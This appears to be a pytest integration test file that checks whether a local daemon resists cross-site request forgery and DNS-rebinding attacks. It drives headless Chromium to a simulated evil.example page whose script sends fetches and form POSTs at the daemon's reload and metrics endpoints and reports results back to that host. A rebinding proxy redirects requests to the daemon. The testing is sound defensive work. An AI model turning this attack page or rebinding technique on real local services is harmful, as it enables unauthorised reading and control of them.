"""A real browser shows a page of a foreign site. That page attacks the daemon on the machine of the browser.

The browser takes ``evil.example`` for this machine, as after an attack on its DNS (rebinding).
"""

import contextlib
import http.server
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.daemon import Daemon
from tests.integration.prometheus import eventually
from tests.integration.requirements import need

pytestmark = [pytest.mark.integration, pytest.mark.slow]

FLAGS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
]
#: Asks for each address of a list, and reports what it could read and what it could not.
SCRIPT = """<!doctype html><title>attack</title><iframe name=sink></iframe><script>
async function attack(name, url, options) {
  try {
    const response = await fetch(url, options);
    return [name, response.type === "opaque" ? "opaque" : response.status, (await response.text()).slice(0, 200)];
  } catch (error) { return [name, "blocked", String(error)]; }
}
async function run() {
  const results = [];
  for (const [name, url, options] of ATTACKS) results.push(await attack(name, url, options));
  for (const url of FORMS) {
    const form = Object.assign(document.createElement("form"), {method: "POST", action: url, target: "sink"});
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 1000));
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
run();
</script>"""


class Attacker:
    """A foreign web site. It serves one page, and receives the report of the script on it."""

    def __init__(self) -> None:
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(attacker.page.encode())

            def do_POST(self) -> None:
                attacker.report = json.loads(self.rfile.read(int(self.headers["content-length"])))
                self.send_response(204)
                self.end_headers()
                attacker.reported.set()

            def log_message(self, *_: object) -> None:
                pass

        self.page = ""
        self.report: list[list[Any]] = []
        self.reported = threading.Event()
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def prepare(self, attacks: list[list[Any]], forms: list[str]) -> None:
        report = f"http://evil.example:{self.port}/report"
        head = f"<script>const ATTACKS={json.dumps(attacks)}, FORMS={json.dumps(forms)}, REPORT={json.dumps(report)}"
        self.page = SCRIPT.replace("<script>", head + ";", 1)

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with contextlib.closing(Attacker()) as made:
        yield made


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[Daemon]:
    with Daemon(tmp_path / "pulse", config={"targets": [{"url": "redis://127.0.0.1:1"}]}) as running:
        eventually(lambda: "event=listening" in running.log, "the configuration at the start is in the log")
        yield running


def browse(url: str, attacker: Attacker, folder: Path) -> dict[str, list[Any]]:
    """Open a page in Chromium, and return what its script reports: for each attack a result and a text."""
    command = [need("chromium", "chromium"), *FLAGS, f"--user-data-dir={folder / 'chromium'}", url]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert attacker.reported.wait(60), "the page did not report"
    finally:
        process.terminate()
        process.wait()
    return {name: [result, text] for name, result, text in attacker.report}


def reloads(daemon: Daemon) -> int:
    return daemon.log.count('event="configuration taken over"')


def test_page_of_another_site_can_neither_read_nor_reload(daemon: Daemon, attacker: Attacker, tmp_path: Path) -> None:
    before = reloads(daemon)
    base = f"http://127.0.0.1:{daemon.port}"
    attacks = [
        ["read", f"{base}/", {}],
        ["metrics", f"{base}/metrics", {}],
        ["reload", f"{base}/-/reload", {"method": "POST", "mode": "no-cors"}],
        ["reload with json", f"{base}/-/reload", {"method": "POST", "headers": {"content-type": "application/json"}}],
        ["reload by name", f"http://localhost:{daemon.port}/-/reload", {"method": "POST", "mode": "no-cors"}],
    ]
    attacker.prepare(attacks, [f"{base}/-/reload", f"http://localhost:{daemon.port}/-/reload"])
    report = browse(f"http://evil.example:{attacker.port}/", attacker, tmp_path)
    assert {name: result for name, (result, _) in report.items() if result not in ("blocked", "opaque")} == {}
    assert reloads(daemon) == before
    page = daemon.get("/metrics")[2]
    start = 'redis_exporter_http_requests_total{path="/-/reload",code="403"} '
    refused = sum(float(line.removeprefix(start)) for line in page.splitlines() if line.startswith(start))
    assert refused >= 2, f"the browser sent too few requests, so this proves nothing: {report}"


class Rebinding:
    """A port that leads to the attacker first, and then to the daemon, as a changed DNS record does."""

    def __init__(self, attacker: Attacker, daemon: Daemon) -> None:
        self._ports = [attacker.port]
        self._daemon_port = daemon.port
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        """Pass on the first request of a connection. The page asks to close it, so the next one is a new one."""
        with client, contextlib.suppress(OSError):
            request = client.recv(65536)
            is_page = request.startswith(b"GET /attack ")
            target = socket.create_connection(("127.0.0.1", self._ports[0] if is_page else self._daemon_port))
            with target:
                target.sendall(request.replace(b"Connection: keep-alive", b"Connection: close"))
                while data := target.recv(65536):
                    client.sendall(data)

    def close(self) -> None:
        self._listener.close()


def test_page_of_a_rebound_name_can_neither_read_pages_nor_reload(
    daemon: Daemon, attacker: Attacker, tmp_path: Path
) -> None:
    """The browser takes the daemon for the site of the attacker. Only the name in Host shows the attack."""
    before = reloads(daemon)
    attacks = [
        ["page", "/", {}],
        ["stalls", "/stalls", {}],
        ["ping", "/redis/ping", {}],
        ["reload", "/-/reload", {"method": "POST"}],
        ["unknown", "/nowhere", {}],
    ]
    attacker.prepare(attacks, ["/-/reload"])
    with contextlib.closing(Rebinding(attacker, daemon)) as rebinding:
        report = browse(f"http://evil.example:{rebinding.port}/attack", attacker, tmp_path)
    assert {name: result for name, (result, _) in report.items()} == dict.fromkeys((row[0] for row in attacks), 403)
    assert all("web.allowed_hosts" in text for _, text in report.values())
    assert reloads(daemon) == before
